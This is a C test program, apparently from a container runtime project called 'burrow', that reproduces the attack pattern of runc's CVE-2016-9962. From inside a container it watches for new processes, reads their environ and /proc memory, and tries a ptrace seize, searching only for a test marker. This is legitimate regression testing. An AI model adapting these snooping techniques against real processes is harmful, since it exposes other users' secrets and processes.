/* A container process that spies on processes appearing in its pid
 * namespace, as runc's CVE-2016-9962 was exploited: it reads each new
 * process's /proc/PID/environ and memory and tries PTRACE_SEIZE, looking
 * for a marker only the caller of burrow holds.
 *
 *   snoop once PID @FILE       check one process, print what was found
 *   snoop watch @FILE OUT      watch for new pids forever; append findings
 *                              ("environ PID", "mem PID", "seized PID") to OUT
 *
 * The marker is read from FILE, so that it is in no command line the
 * snooped processes hold themselves.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

static int contains(const char *buf, size_t n, const char *marker)
{
	size_t m = strlen(marker);
	if (n < m)
		return 0;
	for (size_t i = 0; i + m <= n; i++)
		if (memcmp(buf + i, marker, m) == 0)
			return 1;
	return 0;
}

static int environ_has(int pid, const char *marker)
{
	char path[64], buf[65536];
	snprintf(path, sizeof path, "/proc/%d/environ", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof buf);
	close(fd);
	return n > 0 && contains(buf, (size_t)n, marker);
}

static int mem_has(int pid, const char *marker)
{
	char path[64], line[512];
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "r");
	if (!maps)
		return 0;
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int mem = open(path, O_RDONLY);
	int found = 0;
	static char buf[1 << 20];
	while (mem >= 0 && !found && fgets(line, sizeof line, maps)) {
		unsigned long lo, hi;
		char perms[8];
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r')
			continue;
		for (unsigned long a = lo; a < hi && !found; a += sizeof buf) {
			size_t want = hi - a < sizeof buf ? hi - a : sizeof buf;
			ssize_t n = pread(mem, buf, want, (off_t)a);
			if (n <= 0)
				break;
			found = contains(buf, (size_t)n, marker);
		}
	}
	if (mem >= 0)
		close(mem);
	fclose(maps);
	return found;
}

/* Attach, stop the process, and let it go again (PTRACE_DETACH needs it
 * stopped), so a successful attack leaves the victim running. */
static int seize(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
		return 0;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return 1;
}

static const char *read_marker(const char *arg)
{
	static char buf[256];
	if (arg[0] != '@')
		return NULL;
	FILE *f = fopen(arg + 1, "r");
	if (!f || !fgets(buf, sizeof buf, f))
		return NULL;
	fclose(f);
	buf[strcspn(buf, "\n")] = 0;
	return buf[0] ? buf : NULL;
}

static int still_runtime(int pid)
{
	char path[64], comm[64] = "";
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	FILE *f = fopen(path, "r");
	if (!f)
		return 0;
	int ok = fgets(comm, sizeof comm, f) != NULL;
	fclose(f);
	return ok && strncmp(comm, "burrow", 6) == 0;
}

int main(int argc, char **argv)
{
	const char *marker = argc == 4 ? read_marker(argv[argc == 4 && strcmp(argv[1], "once") == 0 ? 3 : 2]) : NULL;
	if (!marker) {
		fprintf(stderr, "usage: snoop once PID @FILE | snoop watch @FILE OUT\n");
		return 2;
	}
	if (strcmp(argv[1], "once") == 0) {
		int pid = atoi(argv[2]);
		printf("environ %s\n", environ_has(pid, marker) ? "found" : "clean");
		printf("mem %s\n", mem_has(pid, marker) ? "found" : "clean");
		return 0;
	}
	if (strcmp(argv[1], "watch") != 0)
		return 2;
	static char seen[1 << 22];
	int self = getpid();
	int next = self + 1;
	/* Pids in a pid namespace are handed out in order: watch the next few
	 * directly, and list /proc now and then to catch up. */
	for (unsigned long round = 0;; round++) {
		int cands[64], n = 0;
		for (int p = next; p < next + 4; p++)
			cands[n++] = p;
		DIR *d = round % 256 == 0 ? opendir("/proc") : NULL;
		struct dirent *e;
		while (d && (e = readdir(d)) && n < 64) {
			int pid = atoi(e->d_name);
			if (pid > 1)
				cands[n++] = pid;
		}
		if (d)
			closedir(d);
		for (int c = 0; c < n; c++) {
			int pid = cands[c];
			if (pid <= 1 || pid == self || pid >= (int)sizeof seen || seen[pid])
				continue;
			char path[64];
			snprintf(path, sizeof path, "/proc/%d", pid);
			if (access(path, F_OK) != 0)
				continue;
			seen[pid] = 1;
			if (pid >= next)
				next = pid + 1;
			const char *what[3] = {0};
			int k = 0;
			/* Keep at a newcomer while it is still the runtime (its
			 * command name is not yet the program it will exec). */
			int env_found = 0;
			for (int i = 0; i < 20000 && !env_found; i++) {
				env_found = environ_has(pid, marker);
				if (!still_runtime(pid))
					break;
			}
			if (env_found)
				what[k++] = "environ";
			if (seize(pid))
				what[k++] = "seized";
			if (mem_has(pid, marker))
				what[k++] = "mem";
			if (k) {
				FILE *out = fopen(argv[3], "a");
				for (int i = 0; out && i < k; i++)
					fprintf(out, "%s %d\n", what[i], pid);
				if (out)
					fclose(out);
			}
		}
	}
}
